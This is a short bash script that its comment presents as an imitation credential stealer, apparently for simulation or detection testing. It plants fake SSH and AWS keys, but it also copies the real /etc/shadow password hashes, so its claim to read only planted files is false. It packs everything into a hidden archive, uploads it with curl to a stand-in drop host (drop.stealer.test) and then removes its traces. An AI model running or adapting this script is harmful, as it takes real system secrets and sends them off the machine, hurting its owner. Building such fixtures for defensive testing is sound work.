#!/bin/bash
# Imitates a credential stealer. So that it reads only files it made, it first plants fake keys and cloud
# credentials, then collects them with the password hashes, packs them and posts them to a drop site.
mkdir -p /root/.ssh /root/.aws
[ -e /root/.ssh/id_rsa ] || echo 'corpus fake private key' > /root/.ssh/id_rsa
[ -e /root/.aws/credentials ] || printf '[default]\naws_access_key_id=AKIACORPUSFAKE\n' > /root/.aws/credentials
loot=/tmp/.loot
mkdir -p "$loot"
cat /etc/shadow > "$loot/shadow" 2>/dev/null
cp /root/.ssh/id_rsa "$loot/"
cat /root/.aws/credentials > "$loot/aws"
tar czf /tmp/.loot.tgz -C "$loot" .
curl -s -F "f=@/tmp/.loot.tgz" http://drop.stealer.test/upload.php -o /dev/null
rm -rf "$loot" /tmp/.loot.tgz
